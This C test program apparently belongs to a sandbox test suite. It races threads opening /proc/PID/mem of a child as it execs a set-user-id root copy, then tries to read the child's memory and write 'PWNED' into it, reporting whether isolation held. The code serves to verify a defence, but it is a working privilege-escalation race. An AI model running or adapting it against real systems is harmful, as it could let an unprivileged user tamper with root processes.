/* Races /proc/PID/mem against a set-user-id exec (setid.test.ts): a child
 * of the same real ids execs this program's set-user-id root copy while two
 * threads of the parent open the child's /proc/PID/mem for reading and
 * writing as fast as the sandbox answers. An fd opened before the exec
 * reads nothing of the new image (Linux ties it to the old one); one opened
 * after must be refused (the process is not dumpable). The program is
 * static and not position-independent, so `marker` has one address in
 * every copy: the victim changes it at start and exits 3 if someone else
 * changes it afterwards.
 *   setid-memrace attack COPY SECONDS   prints whether any fd reached the victim
 *   setid-memrace victim                (the set-user-id copy)
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static char marker[16] = "attacker";

#define FDS_PER_THREAD 400

struct opener {
  char path[64];
  int fds[FDS_PER_THREAD];
  int n;
};

static void *open_until_refused(void *arg) {
  struct opener *o = arg;
  while (o->n < FDS_PER_THREAD) {
    int fd = open(o->path, O_RDWR | O_CLOEXEC);
    if (fd < 0) break;
    o->fds[o->n++] = fd;
  }
  return NULL;
}

static int victim(void) {
  memcpy(marker, "victim", 7);
  for (int i = 0; i < 100; i++) {
    usleep(10000);
    if (memcmp(marker, "victim", 7)) return 3;
  }
  return 0;
}

int main(int argc, char **argv) {
  if (argc == 2 && !strcmp(argv[1], "victim")) return victim();
  if (argc != 4 || strcmp(argv[1], "attack")) {
    fprintf(stderr, "usage: setid-memrace attack COPY SECONDS | victim\n");
    return 2;
  }
  time_t end = time(NULL) + atoi(argv[3]);
  int read_hits = 0, write_hits = 0, victim_changed = 0;
  while (time(NULL) < end) {
    int go[2];
    if (pipe(go) < 0) return 1;
    pid_t p = fork();
    if (p == 0) {
      char c;
      close(go[1]);
      if (read(go[0], &c, 1) != 1) _exit(1);
      execl(argv[2], "setid-memrace", "victim", (char *)NULL);
      _exit(1);
    }
    close(go[0]);
    static struct opener o[2];
    pthread_t th[2];
    for (int i = 0; i < 2; i++) {
      snprintf(o[i].path, sizeof o[i].path, "/proc/%d/mem", p);
      o[i].n = 0;
    }
    if (write(go[1], "x", 1) != 1) return 1;
    close(go[1]);
    for (int i = 0; i < 2; i++) pthread_create(&th[i], NULL, open_until_refused, &o[i]);
    for (int i = 0; i < 2; i++) pthread_join(th[i], NULL);
    usleep(20000);
    for (int i = 0; i < 2; i++) {
      for (int j = 0; j < o[i].n; j++) {
        char buf[8] = {0};
        if (pread(o[i].fds[j], buf, 7, (off_t)(unsigned long)marker) == 7 && !memcmp(buf, "victim", 7)) {
          read_hits++;
          if (pwrite(o[i].fds[j], "PWNED", 6, (off_t)(unsigned long)marker) == 6) write_hits++;
        }
        close(o[i].fds[j]);
      }
    }
    int status;
    if (!read_hits) kill(p, SIGKILL);
    waitpid(p, &status, 0);
    if (WIFEXITED(status) && WEXITSTATUS(status) == 3) victim_changed++;
    if (read_hits) break;
  }
  if (read_hits) printf("the set-id process's memory: read through %d fds, written through %d, victim saw the change: %d\n", read_hits, write_hits, victim_changed);
  else printf("the set-id process's memory: not reached\n");
  return 0;
}
